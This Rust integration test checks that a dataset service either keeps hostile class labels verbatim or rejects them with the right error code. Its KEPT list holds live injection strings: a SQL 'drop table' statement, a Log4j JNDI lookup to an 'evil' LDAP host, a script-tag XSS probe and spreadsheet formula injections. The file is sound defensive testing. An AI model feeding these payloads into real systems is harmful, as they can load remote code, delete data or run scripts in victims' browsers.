//! Labels that are hostile to pages, spreadsheets, metrics and file systems: A22 of
//! docs/security.md.

use serde_json::{Value, json};

use crate::support::{
    data::{clipart_subset, unzip, zip},
    service::Service,
};

/// Names that are kept as they are, in the order of their bytes.
const KEPT: [&str; 13] = [
    "\"; drop table jobs; --",
    "${jndi:ldap://evil}",
    "'+'",
    "..",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil\")",
    "@SUM(1)",
    "__proto__",
    "constructor",
    "le=\"+Inf\"} 1",
    "naïve",
    "null",
    "\u{1f980}",
];

/// A data set whose manifest gives each image one of these labels, twice each.
fn labelled(labels: &[String]) -> Vec<u8> {
    let images = unzip(&clipart_subset(&["animals", "food"], labels.len()));
    let (mut files, mut manifest) = (Vec::new(), String::new());
    for (number, bytes) in images.into_values().enumerate() {
        let path = format!("{number}.png");
        let row = json!({"path": path, "label": labels[number % labels.len()]});
        manifest += &format!("{row}\n");
        files.push((path, bytes));
    }
    files.push(("manifest.jsonl".to_owned(), manifest.into_bytes()));
    zip(&files)
}

fn owned(labels: &[&str]) -> Vec<String> {
    labels.iter().map(|label| (*label).to_owned()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_labels_are_kept_or_refused_by_rule() {
    let service = Service::start().await;
    let _worker = service.worker("worker", &[]);
    hostile_labels(&service).await;
}

pub(super) async fn hostile_labels(service: &Service) {
    let file = service.dataset(labelled(&owned(&KEPT))).await;
    assert_eq!(file["status"], "processed", "{file}");
    let path = format!("/v1/files/{}/report", file["id"].as_str().unwrap());
    let answer = service.get(&path).await;
    assert_eq!(answer.headers["content-type"], "application/json");
    assert_eq!(answer.headers["x-content-type-options"], "nosniff");
    let report = answer.ok();
    let classes = report["dataset"]["classes"].as_array().unwrap().iter();
    let names: Vec<&str> = classes
        .map(|class| class["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, KEPT);
    let metrics = service.get("/metrics").await.text();
    assert!(!metrics.contains("HYPERLINK") && !metrics.contains("+Inf\"} 1\"}"));

    let long = "x".repeat(1 << 20);
    for (labels, code) in [
        (["cat", "Cat"], "class_name_twins"),
        (["na\u{ef}ve", "nai\u{308}ve"], "class_name_twins"),
        (["cat", "a\nb"], "invalid_class_name"),
        (["cat", "\u{1b}[31mcat"], "invalid_class_name"),
        (["cat", "a\u{0}b"], "invalid_class_name"),
        (["cat", "\u{202e}tac"], "invalid_class_name"),
        (["cat", long.as_str()], "invalid_class_name"),
    ] {
        let shown: Vec<String> = labels
            .iter()
            .map(|label| label.chars().take(20).collect())
            .collect();
        let file = service.dataset(labelled(&owned(&labels))).await;
        assert_eq!(file["status"], "error", "{shown:?}: {file}");
        let path = format!("/v1/files/{}/report", file["id"].as_str().unwrap());
        let report = service.get(&path).await;
        assert!(
            report.body.len() < 64 << 10,
            "{shown:?}: {} bytes",
            report.body.len()
        );
        let report = report.ok();
        let codes: Vec<&Value> = report["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| &one["code"])
            .collect();
        assert!(codes.contains(&&json!(code)), "{shown:?}: {report}");
    }
}
